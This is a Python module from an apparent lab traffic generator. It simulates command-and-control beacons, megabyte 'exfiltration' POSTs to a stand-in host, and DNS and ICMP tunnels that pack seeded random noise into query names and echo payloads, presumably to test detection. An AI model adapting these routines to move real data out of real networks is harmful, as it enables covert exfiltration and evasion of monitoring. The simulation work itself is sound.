"""What is to pass unseen: beacons, tunnels in names and pings, and large uploads."""

from __future__ import annotations

import contextlib
import random
import socket
from typing import TYPE_CHECKING

from plugin.lab import packets, wire
from plugin.lab.profiles import SERVICES

if TYPE_CHECKING:
    from collections.abc import Iterator

    from plugin.lab.plan import Plan

BEACON_BYTES = 220
UPLOAD_BYTES = 1_000_000
"""At most what a web server of the lab takes."""
NAME_BYTES = (60, 104)
"""Hidden in a name: it has 253 letters at most, two for each byte."""
PING_BYTES = (400, 1400)
TUNNEL_ZONE = "t.example"
_PATIENCE = 2.0


def beacon(what: Plan) -> Iterator[None]:
    """Beacon: calls home at equal times, with as many bytes each time.

    At a port of its own: among a person's visits to the same one it would not be regular.
    """
    return _posts(what, BEACON_BYTES)


def exfiltrate(what: Plan) -> Iterator[None]:
    """Exfiltration: brings a megabyte outside, and the next one."""
    return _posts(what, UPLOAD_BYTES)


def _posts(what: Plan, size: int) -> Iterator[None]:
    chance = random.Random(what.seed)  # noqa: S311 - no secret
    while True:
        body = wire.noise(chance, size)
        request = wire.http_request("POST", "update.example", "/c", body)
        with (
            contextlib.suppress(OSError),
            socket.create_connection((what.target, SERVICES["home"].port), _PATIENCE) as peer,
        ):
            peer.sendall(request)
            while peer.recv(65_536):
                pass
        yield


def dns_tunnel(what: Plan) -> Iterator[None]:
    """DNS tunnel: bytes hidden in names that are asked for, as long as names may be."""
    chance = random.Random(what.seed)  # noqa: S311 - no secret
    place = (what.target, SERVICES["dns"].port)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setblocking(False)
        while True:
            load = wire.noise(chance, chance.randint(*NAME_BYTES))
            with contextlib.suppress(OSError):
                sock.sendto(wire.dns_query(chance, wire.dns_carrying(load, TUNNEL_ZONE)), place)
                sock.recv(4096)  # of one before: nobody waits
            yield


def icmp_tunnel(what: Plan) -> Iterator[None]:
    """ICMP tunnel: bytes hidden in echo requests, and in their answers."""
    chance = random.Random(what.seed)  # noqa: S311 - no secret
    number = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        while True:
            number += 1
            load = wire.noise(chance, chance.randint(*PING_BYTES))
            with contextlib.suppress(OSError):
                sock.sendto(packets.echo_request(what.seed, number, load), (what.target, 0))
            yield
